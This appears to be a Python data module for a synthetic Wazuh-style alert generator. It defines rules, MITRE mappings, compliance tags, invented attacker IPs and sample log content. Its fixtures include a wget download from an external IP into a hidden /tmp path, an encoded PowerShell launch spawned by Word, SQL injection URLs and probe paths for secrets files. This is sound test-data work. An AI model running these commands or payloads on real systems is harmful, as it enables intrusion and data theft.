"""Facts the alert generator draws from: Wazuh rules (ids, levels, groups, MITRE, compliance), actors and paths.

The rule ids, levels, descriptions and MITRE mappings follow Wazuh's default ruleset (4.x), so an
analyst who knows Wazuh recognises every alert. The data is written here, not copied from it.
"""

from __future__ import annotations

import functools
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

# --- MITRE ATT&CK: technique id -> (name, tactics) -------------------------------------------------

MITRE: dict[str, tuple[str, tuple[str, ...]]] = {
    "T1110": ("Brute Force", ("Credential Access",)),
    "T1110.001": ("Password Guessing", ("Credential Access",)),
    "T1021": ("Remote Services", ("Lateral Movement",)),
    "T1021.004": ("SSH", ("Lateral Movement",)),
    "T1078": ("Valid Accounts", ("Defense Evasion", "Persistence", "Privilege Escalation", "Initial Access")),
    "T1531": ("Account Access Removal", ("Impact",)),
    "T1548.003": ("Sudo and Sudo Caching", ("Privilege Escalation", "Defense Evasion")),
    "T1190": ("Exploit Public-Facing Application", ("Initial Access",)),
    "T1595.002": ("Vulnerability Scanning", ("Reconnaissance",)),
    "T1565.001": ("Stored Data Manipulation", ("Impact",)),
    "T1070.004": ("File Deletion", ("Defense Evasion",)),
    "T1485": ("Data Destruction", ("Impact",)),
    "T1105": ("Ingress Tool Transfer", ("Command and Control",)),
    "T1562.001": ("Disable or Modify Tools", ("Defense Evasion",)),
    "T1529": ("System Shutdown/Reboot", ("Impact",)),
    "T1040": ("Network Sniffing", ("Credential Access", "Discovery")),
    "T1059.001": ("PowerShell", ("Execution",)),
    "T1046": ("Network Service Discovery", ("Discovery",)),
}

# --- compliance tag sets, as Wazuh attaches them per rule family ------------------------------------

Compliance = Mapping[str, tuple[str, ...]]
_TSC_AUTH = ("CC6.1", "CC6.8", "CC7.2", "CC7.3")
AUTH_FAILED: Compliance = {
    "pci_dss": ("10.2.4", "10.2.5"),
    "gdpr": ("IV_35.7.d", "IV_32.2"),
    "hipaa": ("164.312.b",),
    "nist_800_53": ("AU.14", "AC.7"),
    "tsc": _TSC_AUTH,
    "gpg13": ("7.1",),
}
AUTH_SUCCESS: Compliance = {
    "pci_dss": ("10.2.5",),
    "gdpr": ("IV_32.2",),
    "hipaa": ("164.312.b",),
    "nist_800_53": ("AU.14", "AC.7"),
    "tsc": ("CC6.8", "CC7.2", "CC7.3"),
    "gpg13": ("7.1", "7.2"),
}
BRUTE_FORCE: Compliance = {
    "pci_dss": ("11.4", "10.2.4", "10.2.5"),
    "gdpr": ("IV_35.7.d", "IV_32.2"),
    "hipaa": ("164.312.b",),
    "nist_800_53": ("SI.4", "AU.14", "AC.7"),
    "tsc": _TSC_AUTH,
}
SUDO: Compliance = {
    "pci_dss": ("10.2.5", "10.2.2"),
    "gdpr": ("IV_32.2",),
    "hipaa": ("164.312.b",),
    "nist_800_53": ("AU.14", "AC.7", "AC.6"),
    "tsc": ("CC6.8", "CC7.2", "CC7.3"),
    "gpg13": ("7.6", "7.8", "7.13"),
}
WEB: Compliance = {
    "pci_dss": ("6.5", "11.4"),
    "gdpr": ("IV_35.7.d",),
    "nist_800_53": ("SA.11", "SI.4"),
    "tsc": ("CC6.6", "CC7.1", "CC8.1", "CC6.1", "CC6.8", "CC7.2", "CC7.3"),
}
FIM: Compliance = {
    "pci_dss": ("11.5",),
    "gdpr": ("II_5.1.f",),
    "hipaa": ("164.312.c.1", "164.312.c.2"),
    "nist_800_53": ("SI.7",),
    "tsc": ("PI1.4", "PI1.5", "CC6.1", "CC6.8", "CC7.2", "CC7.3"),
    "gpg13": ("4.11",),
}
ROOTCHECK: Compliance = {
    "pci_dss": ("10.6.1",),
    "gdpr": ("IV_35.7.d",),
    "hipaa": ("164.312.b",),
    "nist_800_53": ("AU.6",),
    "tsc": ("CC7.2", "CC7.3"),
    "gpg13": ("4.14",),
}
VULN: Compliance = {"pci_dss": ("11.2.1", "11.2.3"), "gdpr": ("IV_35.7.d",), "tsc": ("CC7.1", "CC7.2")}
CONFIG_CHANGED: Compliance = {
    "pci_dss": ("10.6.1",),
    "gdpr": ("IV_35.7.d",),
    "hipaa": ("164.312.b",),
    "nist_800_53": ("AU.6",),
    "tsc": ("CC7.2", "CC7.3"),
    "gpg13": ("4.10",),
}
AGENT_STATE: Compliance = {
    "pci_dss": ("10.6.1", "10.2.6"),
    "gdpr": ("IV_35.7.d",),
    "hipaa": ("164.312.b",),
    "nist_800_53": ("AU.6", "AU.14", "AU.5"),
    "tsc": ("CC7.2", "CC7.3", "CC6.8"),
}
SYSLOG_ERR: Compliance = {
    "pci_dss": ("10.6.1",),
    "gdpr": ("IV_35.7.d",),
    "hipaa": ("164.312.b",),
    "nist_800_53": ("AU.6",),
    "tsc": ("CC7.2", "CC7.3"),
    "gpg13": ("4.3",),
}


@dataclass(frozen=True)
class Rule:
    id: str
    level: int
    description: str
    groups: tuple[str, ...]
    mitre: tuple[str, ...] = ()
    compliance: Compliance = field(default_factory=dict)
    frequency: int | None = None  # composite (correlation) rules carry their threshold

    def as_alert_rule(self, firedtimes: int, description: str | None = None) -> dict[str, Any]:
        """The ``rule`` object as the manager writes it into an alert."""
        out: dict[str, Any] = {
            "level": self.level,
            "description": description or self.description,
            "id": self.id,
            "firedtimes": firedtimes,
            "mail": self.level >= 12,  # email_alert_level defaults to 12
            "groups": list(self.groups),
        }
        if self.frequency is not None:
            out["frequency"] = self.frequency
        if (mitre := self._alert_mitre) is not None:
            out["mitre"] = {
                "id": list(mitre["id"]),
                "tactic": list(mitre["tactic"]),
                "technique": list(mitre["technique"]),
            }
        for key, values in self.compliance.items():
            out[key] = list(values)
        return out

    @functools.cached_property
    def _alert_mitre(self) -> dict[str, list[str]] | None:
        """The alert's ``rule.mitre``, worked out once per rule (the demo renders its alerts before its first
        answer)."""
        if not self.mitre:
            return None
        tactics: list[str] = []
        for technique in self.mitre:
            tactics += [t for t in MITRE[technique][1] if t not in tactics]
        return {"id": list(self.mitre), "tactic": tactics, "technique": [MITRE[t][0] for t in self.mitre]}


def _r(
    rule_id: str,
    level: int,
    description: str,
    groups: str,
    mitre: str = "",
    compliance: Compliance | None = None,
    frequency: int | None = None,
) -> Rule:
    return Rule(
        rule_id,
        level,
        description,
        tuple(groups.split(",")),
        tuple(mitre.split(",")) if mitre else (),
        compliance or {},
        frequency,
    )


RULES: dict[str, Rule] = {
    r.id: r
    for r in [
        # sshd (0095-sshd_rules.xml)
        _r(
            "5715",
            3,
            "sshd: authentication success.",
            "syslog,sshd,authentication_success",
            "T1078,T1021",
            AUTH_SUCCESS,
        ),
        _r("5716", 5, "sshd: authentication failed.", "syslog,sshd,authentication_failed", "T1110", AUTH_FAILED),
        _r(
            "5760",
            5,
            "sshd: authentication failed.",
            "syslog,sshd,authentication_failed",
            "T1110.001,T1021.004",
            AUTH_FAILED,
        ),
        _r(
            "5710",
            5,
            "sshd: Attempt to login using a non-existent user",
            "syslog,sshd,authentication_failed,invalid_login",
            "T1110.001,T1021.004",
            AUTH_FAILED,
        ),
        _r(
            "5712",
            10,
            "sshd: brute force trying to get access to the system. Non existent user.",
            "syslog,sshd,authentication_failures",
            "T1110",
            BRUTE_FORCE,
            frequency=8,
        ),
        _r(
            "5720",
            10,
            "sshd: Multiple authentication failures.",
            "syslog,sshd,authentication_failures",
            "T1110",
            BRUTE_FORCE,
            frequency=8,
        ),
        # PAM (0085-pam_rules.xml)
        _r("5501", 3, "PAM: Login session opened.", "pam,syslog,authentication_success", "T1078", AUTH_SUCCESS),
        _r("5502", 3, "PAM: Login session closed.", "pam,syslog", "", AUTH_SUCCESS),
        _r("5503", 5, "PAM: User login failed.", "pam,syslog,authentication_failed", "T1110.001", AUTH_FAILED),
        # sudo (0020-syslog_rules.xml)
        _r("5402", 3, "Successful sudo to ROOT executed.", "syslog,sudo", "T1548.003", SUDO),
        _r("5401", 5, "Failed attempt to run sudo.", "syslog,sudo", "T1548.003", AUTH_FAILED),
        # Windows event channel (0580-win-security_rules.xml and friends)
        _r(
            "60106",
            3,
            "Windows Logon Success",
            "windows,windows_security,authentication_success",
            "T1078",
            AUTH_SUCCESS,
        ),
        _r(
            "60122",
            5,
            "Logon Failure - Unknown user or bad password",
            "windows,windows_security,win_authentication_failed",
            "T1078,T1531",
            AUTH_FAILED,
        ),
        _r(
            "60204",
            10,
            "Multiple Windows Logon Failures",
            "windows,windows_security,authentication_failures",
            "T1110",
            BRUTE_FORCE,
            frequency=8,
        ),
        # web access logs (0245-web_rules.xml)
        _r("31101", 5, "Web server 400 error code.", "web,accesslog,attack", "", WEB),
        _r("31103", 7, "SQL injection attempt.", "web,accesslog,attack,sql_injection", "T1190", WEB),
        _r("31106", 12, "A web attack returned code 200 (success).", "web,accesslog,attack", "T1190", WEB),
        _r(
            "31151",
            10,
            "Multiple web server 400 error codes from same source ip.",
            "web,accesslog,web_scan,recon",
            "T1595.002",
            WEB,
            frequency=14,
        ),
        # FIM (0015-ossec_rules.xml)
        _r(
            "550",
            7,
            "Integrity checksum changed.",
            "ossec,syscheck,syscheck_entry_modified,syscheck_file",
            "T1565.001",
            FIM,
        ),
        _r("553", 7, "File deleted.", "ossec,syscheck,syscheck_entry_deleted,syscheck_file", "T1070.004,T1485", FIM),
        _r("554", 5, "File added to the system.", "ossec,syscheck,syscheck_entry_added,syscheck_file", "T1105", FIM),
        # rootcheck
        _r("510", 7, "Host-based anomaly detection event (rootcheck).", "ossec,rootcheck", "", ROOTCHECK),
        _r("516", 3, "System Audit event.", "ossec,rootcheck", "", ROOTCHECK),
        _r("519", 7, "System Audit: Vulnerable web application found.", "ossec,rootcheck", "", ROOTCHECK),
        # vulnerability detector, 4.8+ (0520-vulnerability-detector_rules.xml): severity -> rule
        _r("23503", 5, "CVE affects package", "vulnerability-detector", "", VULN),
        _r("23504", 7, "CVE affects package", "vulnerability-detector", "", VULN),
        _r("23505", 10, "CVE affects package", "vulnerability-detector", "", VULN),
        _r("23506", 13, "CVE affects package", "vulnerability-detector", "", VULN),
        # background
        _r("1002", 2, "Unknown problem somewhere in the system.", "syslog,errors", "", SYSLOG_ERR),
        _r("2902", 7, "New dpkg (Debian Package) installed.", "syslog,dpkg,config_changed", "", CONFIG_CHANGED),
        _r("2903", 7, "Dpkg (Debian Package) removed.", "syslog,dpkg,config_changed", "", CONFIG_CHANGED),
        _r("2932", 7, "New Yum package installed.", "syslog,yum,config_changed", "", CONFIG_CHANGED),
        _r("503", 3, "Wazuh agent started.", "ossec", "", AGENT_STATE),
        _r("504", 3, "Wazuh agent disconnected.", "ossec", "T1562.001", AGENT_STATE),
        _r("506", 3, "Wazuh agent stopped.", "ossec", "T1562.001", AGENT_STATE),
        _r("5113", 7, "System is shutting down.", "syslog,system_shutdown", "T1529", SYSLOG_ERR),
        _r(
            "5104",
            8,
            "Interface entered in promiscuous(sniffing) mode.",
            "syslog,linuxkernel,promisc",
            "T1040",
            SYSLOG_ERR,
        ),
    ]
}

# Linux audit, Sysmon, AWS, SCA and Office 365: the decoder families an analyst meets beyond syslog.
# Descriptions carry Wazuh's $(field) interpolation already applied where the real rule has one.
AUDIT: Compliance = {"gdpr": ("IV_30.1.g",)}
SCA_CHECK: Compliance = {}
CLOUD: Compliance = {"pci_dss": ("10.6.1",), "gdpr": ("IV_35.7.d",), "tsc": ("CC7.2",)}
FAMILY_RULES: dict[str, Rule] = {
    r.id: r
    for r in [
        _r("80792", 3, "Audit: Command: $(audit.exe).", "audit,audit_command", "", AUDIT),  # 0365-auditd_rules.xml
        _r("61603", 3, "Sysmon - Event 1: Process creation $(win.eventdata.description)", "sysmon,sysmon_event1", ""),
        _r("92052", 12, "Windows command prompt started by an abnormal process", "windows,sysmon", "T1059.001"),
        _r("80302", 6, "AWS GuardDuty: $(aws.service.action.actionType) - $(aws.title)", "amazon,aws,aws_guardduty"),
        _r(
            "80305",
            3,
            "AWS GuardDuty: PORT_PROBE - $(aws.title) [IP: $(aws.service.action.portProbeAction.portProbeDetails."
            "remoteIpDetails.ipAddressV4)] [Port: $(aws.service.action.portProbeAction.portProbeDetails."
            "localPortDetails.port)]",
            "amazon,aws,aws_guardduty",
            "T1046",
            CLOUD,
        ),
        _r("80202", 3, "AWS Cloudtrail: $(aws.eventSource) - $(aws.eventName).", "amazon,aws,aws_cloudtrail", ""),
        _r(
            "80254",
            5,
            "AWS Cloudtrail: $(aws.eventSource) - $(aws.eventName) - Failed login.",
            "amazon,aws,aws_cloudtrail,authentication_failed",
            "T1110",
            CLOUD,
        ),
        _r("19007", 7, "$(sca.policy): $(sca.check.title)", "sca", "", SCA_CHECK),  # result failed
        _r("19008", 3, "$(sca.policy): $(sca.check.title)", "sca", "", SCA_CHECK),  # result passed
        _r("91545", 3, "Office 365: $(office365.Operation) by $(office365.UserId).", "office365", "", CLOUD),
        _r(
            "91558",
            5,
            "Office 365: Failed login of $(office365.UserId).",
            "office365,authentication_failed",
            "T1110",
            CLOUD,
        ),
    ]
}
RULES.update(FAMILY_RULES)

AUDIT_COMMANDS = (  # (exe, argv) as auditd's EXECVE record has them
    ("/usr/bin/curl", ("curl", "-fsSL", "https://get.example.net/install.sh")),
    ("/usr/bin/wget", ("wget", "-q", "-O", "/tmp/.x", "http://203.0.113.77/a")),
    ("/usr/bin/id", ("id",)),
    ("/usr/bin/whoami", ("whoami",)),
    ("/usr/sbin/useradd", ("useradd", "-m", "backup2")),
    ("/usr/bin/crontab", ("crontab", "-l")),
    ("/usr/bin/systemctl", ("systemctl", "restart", "nginx")),
)
SYSMON_PROCESSES = (  # (image, command line, parent image, description)
    (
        "C:\\Windows\\System32\\cmd.exe",
        "cmd.exe /c whoami /all",
        "C:\\Windows\\explorer.exe",
        "Windows Command Processor",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "Windows PowerShell",
    ),
    (
        "C:\\Windows\\System32\\svchost.exe",
        "svchost.exe -k netsvcs -p",
        "C:\\Windows\\System32\\services.exe",
        "Host Process for Windows Services",
    ),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "chrome.exe --type=renderer",
        "C:\\Windows\\explorer.exe",
        "Google Chrome",
    ),
)
SCA_CHECKS = (  # (check id, title, command, result)
    ("28500", "Ensure mounting of cramfs filesystems is disabled.", "modprobe -n -v cramfs", "failed"),
    ("28512", "Ensure /tmp is a separate partition.", "findmnt -n /tmp", "failed"),
    ("28560", "Ensure SSH root login is disabled.", "sshd -T", "passed"),
    ("28565", "Ensure SSH MaxAuthTries is set to 4 or less.", "sshd -T", "failed"),
    ("28590", "Ensure auditd service is enabled.", "systemctl is-enabled auditd", "passed"),
)
AWS_ACCOUNT = "150447125201"
AWS_REGIONS = ("us-east-1", "eu-central-1", "eu-west-1")
OFFICE_USERS = (
    "jdoe@corp.example.com",
    "asmith@corp.example.com",
    "kchen@corp.example.com",
    "amartin@corp.example.com",
)

VULN_RULE_BY_SEVERITY = {"Low": "23503", "Medium": "23504", "High": "23505", "Critical": "23506"}

# --- actors -----------------------------------------------------------------------------------------

# Public addresses that keep coming back (scanners and brute-forcers), with what GeoIP says about them.
# (ip, country, region, city, lat, lon)
ATTACKERS: tuple[tuple[str, str, str, str, float, float], ...] = (
    ("218.92.0.112", "China", "Jiangsu", "Nanjing", 32.0617, 118.7778),
    ("61.177.172.140", "China", "Jiangsu", "Changzhou", 31.7736, 119.9540),
    ("45.155.205.233", "Russia", "Moscow", "Moscow", 55.7522, 37.6156),
    ("185.220.101.34", "Germany", "Brandenburg", "Brandenburg", 52.4167, 12.5500),
    ("141.98.81.37", "Lithuania", "Vilnius", "Vilnius", 54.6892, 25.2798),
    ("193.32.162.157", "Netherlands", "North Holland", "Amsterdam", 52.3740, 4.8897),
    ("103.145.13.85", "Indonesia", "Jakarta", "Jakarta", -6.2146, 106.8451),
    ("179.43.180.106", "Switzerland", "Zurich", "Zurich", 47.3667, 8.5500),
    ("92.255.85.37", "Russia", "Saint Petersburg", "Saint Petersburg", 59.9386, 30.3141),
    ("20.163.14.211", "United States", "Virginia", "Boydton", 36.6676, -78.3875),
)
# Names brute-forcers try; a few exist on the hosts (root, admin, ubuntu, oracle...), most do not.
GUESSED_USERS = (
    "root",
    "admin",
    "test",
    "user",
    "oracle",
    "postgres",
    "ubuntu",
    "guest",
    "ftpuser",
    "git",
    "pi",
    "support",
    "deploy",
    "hadoop",
    "minecraft",
    "nagios",
    "ec2-user",
    "centos",
    "debian",
    "ansible",
    "jenkins",
    "steam",
    "es",
    "mysql",
)
EXISTING_USERS = frozenset({"root", "admin", "ubuntu", "ec2-user", "oracle", "postgres", "deploy", "ansible", "centos"})
# Staff and service accounts that log in for real.
LINUX_ADMINS = ("jdoe", "asmith", "mgarcia", "kchen", "ubuntu", "ec2-user", "ansible", "deploy", "oracle", "root")
WINDOWS_USERS = ("jdoe", "asmith", "mgarcia", "kchen", "amartin", "Administrator", "svc_backup", "svc_sql", "svc_iis")
WINDOWS_GUESSES = ("administrator", "admin", "Administrator", "user", "test", "guest", "scanner", "backup", "sql")
DOMAIN = "CORP"
# Internal sources: the VPN pool and the admin workstations' subnet.
VPN_POOL = "10.8.0."
OFFICE_NET = "10.50.12."

SUDO_COMMANDS = (
    "/usr/bin/apt-get update",
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/journalctl -u sshd --since today",
    "/usr/bin/tail -n 200 /var/log/syslog",
    "/usr/bin/docker ps -a",
    "/bin/systemctl status wazuh-agent",
    "/usr/bin/vim /etc/hosts",
    "/usr/sbin/iptables -L -n",
    "/usr/bin/dnf check-update",
    "/bin/su - postgres",
)

WEB_PROBES = (  # (method, path, status) for 4xx scanning
    ("GET", "/wp-login.php", "404"),
    ("GET", "/.env", "404"),
    ("GET", "/phpmyadmin/index.php", "404"),
    ("GET", "/admin/config.php", "404"),
    ("POST", "/xmlrpc.php", "404"),
    ("GET", "/.git/config", "403"),
    ("GET", "/cgi-bin/luci/;stok=/locale", "400"),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "404"),
    ("GET", "/actuator/env", "404"),
    ("GET", "/server-status", "403"),
    ("GET", "/boaform/admin/formLogin", "400"),
)
SQLI_URLS = (
    "/products.php?id=1%27%20OR%20%271%27=%271",
    "/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/item?id=5%20AND%20SLEEP(5)",
    "/login.php?user=admin%27--&pass=x",
    "/api/v1/orders?sort=id;DROP%20TABLE%20orders",
    "/index.php?page=1%27%20AND%201=CONVERT(int,@@version)--",
)
USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "Nikto/2.5.0",
    "curl/8.4.0",
)

LINUX_FIM_PATHS = (  # (path, owner, group, perm, typical size)
    ("/etc/passwd", "root", "root", "rw-r--r--", 2911),
    ("/etc/shadow", "root", "shadow", "rw-r-----", 1542),
    ("/etc/ssh/sshd_config", "root", "root", "rw-r--r--", 3289),
    ("/etc/sudoers", "root", "root", "r--r-----", 1671),
    ("/etc/hosts", "root", "root", "rw-r--r--", 221),
    ("/etc/crontab", "root", "root", "rw-r--r--", 1136),
    ("/usr/bin/sudo", "root", "root", "rwsr-xr-x", 232416),
    ("/usr/bin/ssh", "root", "root", "rwxr-xr-x", 846968),
    ("/usr/sbin/sshd", "root", "root", "rwxr-xr-x", 921288),
    ("/etc/group", "root", "root", "rw-r--r--", 1021),
    ("/root/.ssh/authorized_keys", "root", "root", "rw-------", 742),
    ("/etc/systemd/system/backup.service", "root", "root", "rw-r--r--", 412),
)
LINUX_ADDED_PATHS = (
    "/tmp/.x/kworkerd",
    "/usr/local/bin/backup.sh",
    "/etc/cron.d/sysupdate",
    "/var/www/html/shell.php",
    "/usr/bin/.sshd",
    "/etc/systemd/system/dbus-org.service",
)
WINDOWS_FIM_PATHS = (
    ("c:\\windows\\system32\\drivers\\etc\\hosts", 1024),
    ("c:\\windows\\system32\\drivers\\etc\\services", 17635),
    ("c:\\programdata\\microsoft\\windows\\start menu\\programs\\startup\\update.lnk", 1381),
    ("c:\\windows\\system32\\tasks\\microsoft\\windows\\updateorchestrator\\schedule scan", 3834),
    ("c:\\windows\\win.ini", 92),
    ("c:\\users\\public\\documents\\invoice.pdf.exe", 482304),
)

ROOTCHECK_FINDINGS = (  # (rule, title / full_log)
    (
        "510",
        "Trojaned version of file '/usr/bin/diff' detected. Signature used: 'bash|^/bin/sh|file\\.h|proc\\.h|/dev/[^n]|^/bin/.*sh' (Generic).",
    ),
    ("510", "File '/dev/shm/.x/kworkerd' is owned by root and has written permissions to anyone."),
    ("510", "Process '31337' hidden from /proc. Possible kernel level rootkit."),
    ("516", "System Audit: SSH Hardening - 3: Root can log in. File: /etc/ssh/sshd_config. Reference: 3 ."),
    (
        "516",
        "System Audit: SSH Hardening - 4: No Public Key authentication {PCI_DSS: 2.2.4}. File: /etc/ssh/sshd_config.",
    ),
    ("516", "System Audit: CIS - 1.1.2 - /tmp is not on its own partition. File: /etc/fstab."),
    (
        "519",
        "System Audit: Web vulnerability - Outdated WordPress installation. File: /var/www/html/wp-includes/version.php.",
    ),
    (
        "519",
        "System Audit: Web vulnerability - Backdoors / Web based malware found - eval(base64_decode. File: /var/www/html/uploads/cache.php.",
    ),
)

SYSLOG_NOISE = (  # (program, message) for rule 1002, the catch-all "error" match
    (
        "kernel",
        "EXT4-fs error (device sda1): ext4_find_entry:1455: inode #131074: comm rsync: reading directory lblock 0",
    ),
    ("systemd", "Failed to start Daily apt upgrade and clean activities."),
    ("containerd", 'level=error msg="failed to delete task" error="context deadline exceeded"'),
    ("postfix/smtp", "error: connect to mail.example.net[203.0.113.25]:25: Connection timed out"),
    ("CRON", "(root) error (grandchild #8812 failed with exit status 1)"),
    ("dockerd", 'level=error msg="Handler for POST /v1.43/containers/create returned error: No such image"'),
    ("nginx", "error: upstream timed out (110: Connection timed out) while reading response header from upstream"),
    ("rsyslogd", "error during parsing file /etc/rsyslog.d/50-default.conf, on or before line 12"),
)
DEB_UPDATES = (
    "libssl3",
    "tzdata",
    "linux-firmware",
    "python3-urllib3",
    "libxml2",
    "curl",
    "vim-common",
    "git-man",
    "ca-certificates",
    "libexpat1",
    "openssh-client",
    "systemd-timesyncd",
)
RPM_UPDATES = (
    "tzdata",
    "kernel-core",
    "openssl-libs",
    "python3-libs",
    "libxml2",
    "curl",
    "vim-minimal",
    "ca-certificates",
    "expat",
    "openssh-clients",
    "systemd-libs",
)
